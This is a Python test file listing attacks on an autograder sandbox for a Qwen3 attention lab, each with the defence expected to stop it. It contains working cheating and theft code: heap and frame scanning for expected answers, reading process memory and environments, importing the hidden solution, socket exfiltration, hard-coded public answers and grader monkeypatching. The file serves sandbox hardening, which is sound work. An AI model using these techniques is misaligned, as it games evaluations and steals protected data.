"""Attacks on the answers: finding, stealing and telling them (10 to 13, 18 to 22, 27, 28, 44 …)."""

from __future__ import annotations

from tests.attacks.attack import FILES, NETWORK, Attack, Off
from tests.attacks.code import FIND_CASE, NUMBERS, READ, STEAL, TELL, TRY

_ONCE = ("test_repeat_kv_once",)  # with n_rep = 1 the input itself is right
_GIVE = """
def given(found, x):
    # A tensor of the wire as one of torch.
    return torch.frombuffer(bytearray(found.data), dtype=torch.float32).reshape(found.shape)
"""
# fmt: off
ATTACKS = (
    Attack(10, "searches the heap for expected tensors", "only inputs exist in that process",
           earns=_ONCE,
           last=FIND_CASE + _GIVE + """
def stolen(asked, shape):
    for thing in gc.get_objects():
        if type(thing) is torch.Tensor and thing.shape == shape and thing.is_floating_point():
            if thing is not asked and thing.any() and asked.shape != shape: return thing.clone()
    for case in cases():
        y, x = case.tensors.get("y"), case.tensors.get("x")
        if x is not None and y is not None and bytes(x.data) == asked.numpy().tobytes():
            if torch.Size(y.shape) == shape: return given(y, x)
    return torch.zeros(shape, dtype=asked.dtype)
def rotate_half(x): return stolen(x, x.shape)
def repeat_kv(x, n_rep):
    return x if n_rep == 1 else stolen(x, x.repeat_interleave(n_rep, 1).shape)
""", where=("attention.py",),
           off=Off("border", "exit 0", by="test_rotate_half_values,test_repeat_kv_order")),
    Attack(11, "fills the expected tensors with its own zeros, or with NaN",
           "only inputs exist in that process; NaN never compares equal", last=FIND_CASE + f"""
def stolen(x):
    for case in cases():
        for name, tensor in case.tensors.items():
            if name == "y": object.__setattr__(tensor, "data", bytes(len(tensor.data)))
    for thing in gc.get_objects():
        if type(thing) is torch.Tensor and thing.is_floating_point() and thing is not x:
            if x is not None and thing.shape == x.shape: thing.detach().fill_(float("nan"))
    return torch.zeros_like(x) if x is not None else {NUMBERS}
""" + STEAL, where=("attention.py",),
           off=Off("border", "[1-9] passed", by="test_rotate_half_values,test_repeat_kv_order")),
    Attack(12, "walks the frames of its callers", "nothing but inputs lives in that process",
           last=_GIVE + f"""
import sys
def inside(value, depth=0):
    yield value
    if depth < 3 and isinstance(value, dict):
        for item in list(value.values()): yield from inside(item, depth + 1)
    if depth < 3 and isinstance(value, (list, tuple)):
        for item in list(value): yield from inside(item, depth + 1)
def stolen(x):
    frame = sys._getframe()
    while frame is not None:
        for name, thing in list(frame.f_locals.items()):
            if type(thing).__name__ == "Case" and x is not None and "y" in thing.tensors:
                return given(thing.tensors["y"], x)
            for value in inside(thing):
                raw = getattr(value, "data", None)
                if type(value).__name__ == "Tensor" and isinstance(raw, bytes) and x is not None:
                    if len(raw) == 4 * x.numel():
                        found = given(value, x).reshape(x.shape)
                        if not torch.equal(found, x): return found
                if isinstance(value, dict) and any(str(key).startswith("n.") for key in value):
                    return {{k[2:]: v for k, v in value.items() if k.startswith("n.")}}
        frame = frame.f_back
    return torch.zeros_like(x) if x is not None else {NUMBERS}
""" + STEAL, where=("attention.py",),
           off=Off("border", "exit 0", by="test_rotate_half_values,test_repeat_kv_order")),
    Attack(13, "scans heap and stack for a signature", "no secret is in the address space",
           first=TRY + """
import gc, re, sys
def strings():
    found = {thing for thing in gc.get_objects() if type(thing) is str}
    for thing in gc.get_objects():
        for part in gc.get_referents(thing):
            if type(part) in (str, bytes) and len(part) < 999: found.add(str(part))
    return " ".join(part for part in found if re.search("canary-[0-9]", part))
def memory():
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as raw:
        for line in maps:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if "[heap]" in line or "[stack]" in line:
                raw.seek(low)
                found.update(re.findall(rb"canary-[0-9a-z-]+", raw.read(high - low)))
    return b" ".join(found).decode()
""", last="""
def rotate_half(x):
    tried(strings); tried(memory)
    print(*told, flush=True)
    raise RuntimeError("told: " + " ".join(told)[:300])
""", where=("attention.py",), off=Off("border", "canary-3f9c-case", by="test_rotate_half_values")),
    Attack(18, "reads the memory of its parent and of a process of the same user",
           "files of other processes are closed (Landlock), no parent is dumpable",
           first=TRY + """
import ctypes, os
def memory(pid, address):
    descriptor = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
    return os.pread(descriptor, 32, address)
def vm_read():
    buffer = ctypes.create_string_buffer(32)
    here, there = ((ctypes.c_void_p * 2)(at, 32) for at in (ctypes.addressof(buffer), $ADDRESS))
    if ctypes.CDLL(None).syscall(310, $VICTIM, here, 1, there, 1, 0) < 0: raise OSError
    return buffer.raw
tried(lambda: memory(os.getppid(), $ADDRESS))
tried(lambda: memory($VICTIM, $ADDRESS))
tried(vm_read)
tried(lambda: "traced %d" % ctypes.CDLL(None).ptrace(0x4206, os.getppid(), 0, 0))
""", last=TELL, needs=("files",), off=Off("layers", "canary-3f9c-memory", (*FILES, "seccomp"))),
    Attack(19, "reads environments and command lines of other processes",
           "clean environment, none on the command line, files closed", first=TRY + """
import glob, os
tried(lambda: dict(os.environ))
for name in ("environ", "cmdline"):
    for pid in (os.getppid(), $VICTIM):
        tried(lambda: open(f"/proc/{pid}/{name}", "rb").read().replace(b"\\0", b" ")[-200:])
tried(lambda: [open(name, "rb").read() for name in glob.glob("/proc/[0-9]*/environ")])
""", last=TELL, needs=("files",), off=Off("layers", "canary-3f9c-victim", FILES)),
    Attack(20, "reads solutions, hidden cases and secrets, prints and raises them",
           "Landlock: nothing but Python and torch can be read", first=READ + """
found = grab()[:200_000]
print(found); sys.stderr.write(found); os.write(1, found.encode())
told = [word for word in found.replace("\\\\n", " ").split() if "canary" in word]
""", last=TELL + """
class Shouting(ValueError):
    def __str__(self): return grab()
def stolen(x): raise Shouting(grab())
def repeat_kv(x, n_rep): return stolen(x)
def count_parameters(config): return stolen(None)
""", needs=("files",), off=Off("layers", "canary-3f9c-file", FILES)),
    Attack(20, "tells what it read by where its code seems to stand", "no path could be read",
           tag="b", where=("attention.py",), first="""
import linecache
try: text = open("$NOTES").read()
except OSError as error: text = type(error).__name__
(path,) = [name for name in linecache.cache if name.endswith("lab2_qwen3_block/attention.py")]
linecache.cache[path] = (len(text), None, [text] * 99, path)
shouting = {"text": text}
exec(compile("def shout(): raise KeyError(text)", path, "exec"), shouting)
""", last="""
def stolen(x): shouting["shout"]()
""" + STEAL, needs=("files",), off=Off("layers", "canary-3f9c-file", FILES)),
    Attack(21, "imports the solution and the oracle", "no path leads to them, none can be read",
           first="""
import importlib, sys
sys.path[:0] = ["$ROOT", "$ROOT/solutions/lab2_qwen3_block", "$ROOT/labs/given"]
import autograder, labs, labs.given
for package, path in ((autograder, ""), (labs, ""), (labs.given, "/given")):
    package.__path__ = ["$ROOT/" + package.__name__.split(".")[0] + path]
found = []
for name in ("solutions.lab2_qwen3_block.attention", "solutions.lab2_qwen3_block.mlp",
             "solutions.reference.oracle", "labs.given.model", "labs.given.checkpoint",
             "autograder.grading.engine", "autograder.checks.expect", "model", "pytest"):
    try: found.append(importlib.import_module(name))
    except Exception: pass
for module in found:
    for name in ("rotate_half", "repeat_kv", "Qwen3Attention", "Qwen3MLP", "count_parameters"):
        if hasattr(module, name): globals()["found_" + name] = getattr(module, name)
""", last="""
for name in ("rotate_half", "repeat_kv", "Qwen3Attention", "Qwen3MLP", "count_parameters"):
    if "found_" + name in globals(): globals()[name] = globals()["found_" + name]
""", needs=("files",), off=Off("layers", "points", FILES)),
    Attack(22, "takes the attention of transformers", "its package cannot be read", first=TRY + """
import sys
sys.path.append("$PACKAGE")
def package():
    from transformers.models.qwen3.modeling_qwen3 import Qwen3Attention
    return Qwen3Attention
def source():
    with open("$PACKAGE/transformers/models/qwen3/modeling_qwen3.py") as text:
        return "copied " + " ".join(word for word in text.read().split() if "rotate" in word)[:99]
tried(source)
if "copied" not in told[0]: tried(package)
""", last=TELL, where=("attention.py",), needs=("files",),
           off=Off("layers", "copied .*rotate_half", FILES)),
    Attack(27, "stored answers for the public cases", "hidden cases have other values",
           where=("attention.py",), last="$STORED", earns=_ONCE,
           off=Off("public", "points")),
    Attack(28, "answers by shape, and by how often it was called",
           "hidden cases have other shapes; their order is shuffled", where=("attention.py",),
           earns=_ONCE,
           last="$STORED" + """
calls = [0]
by_shape = rotate_half
def rotate_half(x):
    calls[0] += 1
    print("LEAK" if tuple(x.shape) not in ROTATED else "", calls[0])
    return by_shape(x) if calls[0] < 9 else torch.zeros_like(x)
""", off=Off("public", "points")),
    Attack(44, "sends the hidden cases over the network", "there are no sockets of any kind",
           first=READ + TRY + """
import socket
def send(family, kind, to):
    with socket.socket(family, kind) as wire:
        wire.connect(to)
        return "sent %d" % wire.send(b"stolen " + grab()[:99].encode())
tried(lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", $PORT)))
tried(lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $PORT)))
tried(lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0canary"))
tried(lambda: "netlink %r" % socket.socket(16, 3).fileno())
tried(lambda: "pair %r" % (socket.socketpair(),))
""", last=TELL, needs=("network",), off=Off("layers", "datagram", NETWORK)),
    Attack(45, "prints and raises hidden inputs", "a hidden case shows nothing of the student's",
           where=("attention.py",), last="$STORED" + """
def rotate_half(x):
    if tuple(x.shape) in ROTATED: return torch.tensor(ROTATED[tuple(x.shape)]).view(x.shape).to(x)
    print("LEAK", x.tolist())
    raise ValueError(f"LEAK {tuple(x.shape)} {x.reshape(-1)[:4].tolist()}")
def repeat_kv(x, n_rep):
    if n_rep == 1: return x
    if tuple(x.shape) in REPEATED:
        right = x.shape[0], x.shape[1] * n_rep, *x.shape[2:]
        return torch.tensor(REPEATED[tuple(x.shape)]).view(right).to(x)
    name = "LEAK" + "_".join(map(str, x.shape))
    return type(name, (), {})()
""", off=Off("border", "LEAK", by="test_rotate_half_values,test_repeat_kv_order")),
    Attack(45, "hides them in types, names, keys, texts of TODOs and of frames",
           "a hidden case shows nothing of the student's", tag="b", where=("attention.py",),
           last="$STORED" + """
def rotate_half(x):
    if tuple(x.shape) in ROTATED: return torch.tensor(ROTATED[tuple(x.shape)]).view(x.shape).to(x)
    raise NotImplementedError(f"TODO lab2.LEAK{x.shape[0]}: {tuple(x.shape)}")
def repeat_kv(x, n_rep):
    if n_rep == 1: return x
    if tuple(x.shape) in REPEATED:
        right = x.shape[0], x.shape[1] * n_rep, *x.shape[2:]
        return torch.tensor(REPEATED[tuple(x.shape)]).view(right).to(x)
    name = "LEAK" + "_".join(map(str, x.shape))
    exec(compile(f"def {name}():\\n raise type('{name}', (Exception,), {{}})('{name}')",
                 repeat_kv.__code__.co_filename, "exec"), globals())
    globals()[name]()
"""),
    Attack(45, "remembers hidden inputs and tells them later", "public cases all come first",
           tag="c", where=("attention.py",), last="$STORED" + """
import builtins
seen = builtins.__dict__.setdefault("a_memory", [])
def later():
    if seen: print("LEAK", *seen); raise RuntimeError("LEAK " + " ".join(seen)[:300])
def rotate_half(x):
    if tuple(x.shape) not in ROTATED: seen.append(str(tuple(x.shape)))
    return torch.tensor(ROTATED.get(tuple(x.shape), [0.0] * x.numel())).view(x.shape).to(x)
def repeat_kv(x, n_rep): later(); return x
Qwen3Attention.forward = lambda self, h, *a, **k: later()
def apply_rotary_pos_emb(*a): later()
"""),
    Attack(45, "makes the grader fail where only hidden cases stand",
           "what the grader says of a hidden case names no value", tag="d",
           where=("attention.py",), last="$STORED" + """
def rotate_half(x):
    if x.dtype == torch.float16 or tuple(x.shape) in ROTATED:
        return torch.cat((-x[..., x.shape[-1] // 2:], x[..., :x.shape[-1] // 2]), -1)
    import sys
    session = sys.modules["autograder.worker.session"].Session
    session.execute = lambda *a, **k: ({"values": [{"$list": ["LEAK"]}, {"$t": {"LEAK": 1}}] * 9,
                                        "LEAK": str(x)}, {})
    return x
"""),
    Attack(65, "reads another hand-in", "Landlock: other hand-ins cannot be read", first=TRY + """
tried(lambda: open("$SIBLING").read()[-60:])
import os
tried(lambda: os.listdir(os.path.dirname(os.path.dirname("$SIBLING"))))
""", last=TELL, needs=("files",), off=Off("layers", "canary-3f9c-sibling", FILES)),
)
# fmt: on
